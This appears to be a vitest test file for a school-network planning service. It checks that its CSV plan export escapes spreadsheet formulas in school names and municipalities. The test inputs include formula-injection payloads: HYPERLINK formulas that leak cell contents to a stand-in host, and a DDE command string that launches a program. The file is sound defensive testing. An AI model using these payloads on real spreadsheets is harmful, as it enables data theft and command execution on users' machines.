import { execFileSync } from 'node:child_process';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { FastifyInstance } from 'fastify';
import { buildApp } from '../app.js';
import { createTestAccount } from '../testing/accounts.js';
import type { KyselyStore } from '../storage/kysely-store.js';
import { createTempStore, makeResult } from '../testing/fixtures.js';
import { PLANNING_INPUTS_META_KEY } from './plan-data.js';

const NOW = new Date('2026-03-10T12:00:00.000Z');
const HOUR_MS = 3_600_000;

/**
 * Parses CSV bytes with Python's csv module, a reader skolnet did not
 * write, splitting on `delimiter`; `utf-8-sig` drops a byte order mark as
 * Excel does.
 */
function readCsv(bytes: Buffer, delimiter: ',' | ';'): string[][] {
  const out = execFileSync(
    'python3',
    [
      '-c',
      'import csv,json,sys;text=sys.stdin.buffer.read().decode("utf-8-sig");' +
        'print(json.dumps(list(csv.reader(text.splitlines(True),delimiter=sys.argv[1]))))',
      delimiter,
    ],
    { input: bytes, encoding: 'utf8' },
  );
  return JSON.parse(out) as string[][];
}

/** The UTF-8 byte order mark that Excel needs to read Latvian letters in a CSV. */
const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

/**
 * School names and municipalities are chosen by whoever has the admin
 * credential; a spreadsheet must show them as text, not run them
 * (issue item 8).
 */
describe('plan CSV export through the HTTP API', () => {
  let app: FastifyInstance;
  let store: KyselyStore;
  let cleanup: () => Promise<void>;

  beforeEach(async () => {
    ({ store, cleanup } = await createTempStore());
    app = buildApp({ store, logger: false, dashboardAssets: false, config: { now: () => NOW } });
  });
  afterEach(async () => {
    await app.close();
    await cleanup();
  });

  async function schoolInPlan(name: string, municipality: string): Promise<string> {
    // Straight into the store: the API refuses a municipality that is not Latvia's, but a
    // row stored before the school register (migration 0007) may still hold anything.
    const { id } = await store.createSchool({ name, municipality, pupils: 200 }, NOW);
    const code = await store.createEnrollmentCode(id, HOUR_MS);
    const agent = await store.redeemEnrollmentCode(code.code, { hostname: 'h', agent_version: '1' }, NOW);
    const at = new Date(NOW.getTime() - HOUR_MS).toISOString();
    await store.insertResults([
      makeResult(agent.agent_id, id, {
        measurement: 'throughput',
        fields: { download_mbps: 20 },
        tags: {},
        at,
      }),
      makeResult(agent.agent_id, id, { fields: { rtt_avg_ms: 60, loss_pct: 0.5 }, at }),
    ]);
    return id;
  }

  it.each(
    (['comma', 'semicolon'] as const).flatMap((delimiter) =>
      [
        ['=HYPERLINK("http://example.invalid/?leak="&A1,"Klikšķini")', '@SUM(1+1)'],
        ['=HYPERLINK("http://example.invalid/?leak="&A1;"Klikšķini")', 'Līvāni; Ogre'],
        ['+1+1', '-2+3'],
        ['=1+1', 'Vik'],
        ["+cmd|' /C calc'!A0", '-Rēzekne'],
      ].map(([name, municipality]) => [delimiter, name!, municipality!] as const),
    ),
  )(
    'with delimiter=%s writes the name %s and municipality %s as text',
    async (delimiter, name, municipality) => {
      const ids = [await schoolInPlan(name, municipality)];
      await store.setMeta(
        PLANNING_INPUTS_META_KEY,
        JSON.stringify({
          version: 1,
          schools: ids.map((school_id) => ({
            school_id,
            inventory: {
              line: { technology: 'dsl', down_mbps: 30, fibre_distance_m: 500 },
              teaching_rooms: 12,
              uncovered_rooms: 6,
              wifi_coverage_share: 0.5,
            },
          })),
        }),
      );
      const { token } = await createTestAccount(store, 'planner');
      const res = await app.inject({
        method: 'GET',
        url: `/api/v1/plan?format=csv&budget=1000000${delimiter === 'comma' ? '' : `&delimiter=${delimiter}`}`,
        headers: { authorization: `Bearer ${token}` },
      });
      expect(res.statusCode).toBe(200);
      // Comma stays the default (RFC 4180, no BOM); semicolon is for Latvian Excel, with a BOM.
      expect(res.rawPayload.subarray(0, 3).equals(BOM)).toBe(delimiter === 'semicolon');
      const [header, ...rows] = readCsv(res.rawPayload, delimiter === 'comma' ? ',' : ';');
      expect(header![0]).toBe('school_id');
      expect(rows.length).toBeGreaterThan(0);
      const nameAt = header!.indexOf('school_name');
      const municipalityAt = header!.indexOf('municipality');
      for (const row of rows) {
        // Every text cell is safe: nothing starts a formula.
        for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        // And nothing is lost: the prefix is the only change.
        expect(row[nameAt]).toBe(`'${name}`);
        expect(row[municipalityAt]).toBe(/^[=+\-@]/.test(municipality) ? `'${municipality}` : municipality);
        expect(row).toHaveLength(header!.length);
      }
    },
  );

  it('refuses an unknown delimiter with a 400', async () => {
    const { token } = await createTestAccount(store, 'planner');
    const res = await app.inject({
      method: 'GET',
      url: '/api/v1/plan?format=csv&delimiter=tab',
      headers: { authorization: `Bearer ${token}` },
    });
    expect(res.statusCode).toBe(400);
    expect(res.body).toMatch(/delimiter/);
  });
});
